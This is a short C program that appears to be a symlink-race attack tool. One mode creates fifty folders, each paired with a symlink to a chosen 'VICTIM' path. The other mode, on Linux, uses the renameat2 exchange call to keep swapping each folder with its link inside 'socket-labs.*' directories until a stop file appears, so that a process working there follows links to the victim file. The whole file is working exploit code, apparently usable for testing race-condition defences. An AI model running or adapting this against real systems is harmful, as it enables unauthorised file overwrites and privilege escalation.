/* exchange make VICTIM - leaves fifty folders with a file each where it runs,
 *     and beside each a link to VICTIM.
 * exchange swap FOLDER - exchanges each with its link, again and again, in
 *     whatever is called socket-labs.* in FOLDER, until FOLDER/stop is there
 *     (Linux).
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef __linux__
#include <sys/syscall.h>
#endif

enum { PAIRS = 50, EXCHANGE = 2 };

static int make(const char *victim)
{
    char folder[40], link[40], file[60];

    for (int i = 0; i < PAIRS; i++) {
        snprintf(folder, sizeof folder, "folder.%d", i);
        snprintf(link, sizeof link, "link.%d", i);
        snprintf(file, sizeof file, "%s/file", folder);
        if (mkdir(folder, 0700) == -1 || symlink(victim, link) == -1 ||
            creat(file, 0600) == -1)
            return 1;
    }
    return 0;
}

static void swap_all(int outer, const char *name)
{
    char folder[40], link[40];
    int fd = openat(outer, name, O_RDONLY | O_DIRECTORY);

    for (int i = 0; i < PAIRS && fd != -1; i++) {
        snprintf(folder, sizeof folder, "folder.%d", i);
        snprintf(link, sizeof link, "link.%d", i);
#ifdef SYS_renameat2
        syscall(SYS_renameat2, fd, folder, fd, link, EXCHANGE);
#endif
    }
    close(fd);
}

static int swap(const char *path)
{
    int outer = open(path, O_RDONLY | O_DIRECTORY);

    while (faccessat(outer, "stop", F_OK, 0) == -1) {
        DIR *dir = opendir(path);
        struct dirent *entry;

        while (dir != NULL && (entry = readdir(dir)) != NULL)
            if (strncmp(entry->d_name, "socket-labs.", 12) == 0)
                swap_all(outer, entry->d_name);
        closedir(dir);
    }
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    return strcmp(argv[1], "make") == 0 ? make(argv[2]) : swap(argv[2]);
}
